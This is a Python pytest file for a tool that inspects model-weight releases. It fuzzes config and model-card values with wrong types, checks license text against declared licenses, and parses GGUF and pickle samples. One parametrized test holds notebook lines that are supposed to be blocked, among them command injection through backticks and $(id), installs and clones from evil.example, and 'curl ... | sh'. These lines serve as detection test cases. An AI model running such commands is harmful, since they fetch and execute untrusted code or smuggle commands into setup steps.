"""Documents with values of the wrong type in every place, and layouts beside the weights that are not the usual one."""

from __future__ import annotations

import copy
import io
import json
import os
import random
import struct
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import numpy as np
import pytest
import yaml

from tests.unit.weights import layouts
from weights import FileReport, inspect_file, inspect_folder, join

EACH = int(os.environ.get("ODD_VALUES", "6"))  # changes of each of the layouts below
ODD: list[Any] = [None, True, [], {}, "", "x", -1, 0, 1e300, 10**30, 2**31, [[]], [{}], {"a": 1}, [1, "a", None], "\0"]
LAYOUTS = ["lora_rank_pattern", "gptq", "ct_fp8", "mxfp4_gptoss", "bert_wordpiece", "t5_unigram", "qwen2_vl", "gpt2"]
LAYOUTS += ["deepseek_v3", "mamba2", "sharded", "whisper"]
CARD = {
    "license": "mit",
    "base_model": "a/b",
    "tags": ["x"],
    "language": ["en"],
    "datasets": ["x"],
    "model-index": [{"name": "x", "results": []}],
    "library_name": "x",
}
MIT = "Permission is hereby granted, free of charge, to any person obtaining a copy\n"


def places(value: Any, way: tuple[Any, ...] = ()) -> Iterator[tuple[Any, ...]]:
    keys = list(value) if isinstance(value, dict) else range(min(len(value), 3)) if isinstance(value, list) else ()
    for key in keys:
        yield (*way, key)
        yield from places(value[key], (*way, key))


def inspected(text: str, path: str) -> FileReport:
    content = text.encode()
    report = inspect_file(lambda: io.BytesIO(content), path, len(content))
    return FileReport.from_json(json.loads(json.dumps(report.to_json(), allow_nan=False)))


@pytest.mark.parametrize("layout", LAYOUTS)
def test_no_value_of_another_type_fails_a_check(layout: str, tmp_path: Path) -> None:
    layouts.write(layout, tmp_path)
    (tmp_path / "README.md").write_text(f"---\n{yaml.safe_dump(CARD)}---\n# Card\n")
    (tmp_path / "LICENSE.md").write_text(MIT)
    paths = [path for path in sorted(tmp_path.rglob("*")) if path.is_file()]
    reports = {name: inspect_file(path, name) for path in paths for name in [str(path.relative_to(tmp_path))]}
    documents: dict[str, Any] = {
        name: json.loads((tmp_path / name).read_text()) for name in reports if name.endswith(".json")
    } | {"README.md": CARD}
    draw = random.Random(layout)
    for _ in range(EACH):
        name = draw.choice(sorted(documents))
        value = copy.deepcopy(documents[name])
        way = draw.choice(list(places(value)))
        inner = value
        for key in way[:-1]:
            inner = inner[key]
        inner[way[-1]] = copy.deepcopy(draw.choice(ODD))
        text = json.dumps(value) if name != "README.md" else f"---\n{yaml.safe_dump(value)}---\n# Card\n"
        join((reports | {name: inspected(text, name)}).values())


@pytest.mark.parametrize(
    ("path", "key", "value"),
    [
        ("tokenizer.json", ("model", "continuing_subword_prefix"), ["##"]),
        ("config.json", ("quantization_config", "quant_method"), ["gptq"]),
        ("adapter_config.json", ("r",), {"q_proj": 8}),
        ("adapter_config.json", ("rank_pattern",), {"q_proj": [8]}),
    ],
)
def test_what_once_failed_a_check(path: str, key: tuple[str, ...], value: Any, tmp_path: Path) -> None:
    layouts.write({"tokenizer.json": "llama", "config.json": "gptq"}.get(path, "lora"), tmp_path)
    document = json.loads((tmp_path / path).read_text())
    inner = document
    for part in key[:-1]:
        inner = inner[part]
    inner[key[-1]] = value
    (tmp_path / path).write_text(json.dumps(document))
    inspect_folder(tmp_path)


@pytest.mark.parametrize("name", ["LICENSE", "LICENSE.md", "LICENSE-MIT.txt", "License.yaml"])
@pytest.mark.parametrize(
    ("declared", "agrees"),
    [("mit", True), ("apache-2.0", False), (["apache-2.0", "mit"], True), (["gpl-3.0"], False), ({"a": 1}, True)],
)
def test_the_license_text_under_any_of_its_names(name: str, declared: Any, agrees: bool) -> None:
    card = f"---\n{yaml.safe_dump({'license': declared})}---\n# Card\n"
    report = join([inspected(card, "README.md"), inspected(MIT, name)])
    assert ("MD-LICENSE" in {finding.check for finding in report.findings}) is not agrees


def test_a_document_named_license_says_nothing() -> None:
    report = join(
        [inspected("---\nlicense: mit\n---\n", "README.md"), inspected('{"license_marks": [[]]}', "LICENSE.json")]
    )
    assert "MD-LICENSE" not in {finding.check for finding in report.findings}


@pytest.mark.parametrize(
    ("line", "is_blocked"),
    [
        ("!pip install -q transformers", False),
        ('%pip install "transformers>=4.4,<5" accelerate  # once', False),
        ("!pip install git+https://github.com/huggingface/peft.git", False),
        ("!pip install torch --index-url https://download.pytorch.org/whl/cu121", False),
        ("!git clone https://huggingface.co/x/y", False),
        ("%load_ext autoreload", False),
        ("!nvidia-smi", False),
        ("%load_ext evil", True),
        ("!pip install x && ./run", True),
        ("!pip install `id`", True),
        ('!pip install "x;$(id)"', True),
        ("!pip install x \\", True),
        ("!pip install --index-url http://evil.example x", True),
        ("!pip install git+ssh://evil.example/x", True),
        ("!git clone git@evil.example:x/y", True),
        ("!ls > x", True),
        ("!nvidia-smi&id", True),
        ("!curl https://huggingface.co/x | sh", True),
        ("%%bash", True),
        ("!pip install " + "x" * 600, True),
    ],
)
def test_a_notebook_may_set_itself_up_and_no_more(line: str, is_blocked: bool) -> None:
    cell = {"cell_type": "code", "source": ["!pip install torch\n", line + "\n", "print(1)"]}
    report = inspected(json.dumps({"cells": [cell], "nbformat": 4}), "demo.ipynb")
    assert ("CC-DANGER" in {finding.check for finding in report.findings}) is is_blocked


def test_one_tensor_in_two_files_is_no_copied_layer(release: Path) -> None:
    (release / "onnx").mkdir()
    for shard in release.glob("*.safetensors"):
        (release / "onnx" / shard.name).write_bytes(shard.read_bytes())
    assert "WV-DUP" not in {finding.check for finding in inspect_folder(release).findings}


@pytest.mark.parametrize("kind", [4, 9])
def test_an_architecture_that_is_no_text(kind: int) -> None:
    def text(value: str) -> bytes:
        return struct.pack("<Q", len(value)) + value.encode()

    value = struct.pack("<I", 5) if kind == 4 else struct.pack("<IQ", 8, 1) + text("llama")
    content = b"GGUF" + struct.pack("<IQQ", 3, 1, 1) + text("general.architecture") + struct.pack("<I", kind) + value
    content += text("w") + struct.pack("<IQQIQ", 2, 32, 2, 0, 0)
    content += bytes(-len(content) % 32) + np.linspace(-1, 1, 64, dtype="<f4").tobytes()
    report = join([inspect_file(lambda: io.BytesIO(content), "model.gguf", len(content))])
    assert [finding.check for finding in report.findings] == ["GG-MODEL"]


def test_the_scheme_of_a_quantized_tensor_is_a_plain_constant() -> None:
    content = b"\x80\x02ctorch\nper_tensor_affine\nq\x00."
    report = inspect_file(lambda: io.BytesIO(content), "rust_model.ot", len(content))
    assert [finding.check for finding in report.findings] == ["PK-FORMAT"]
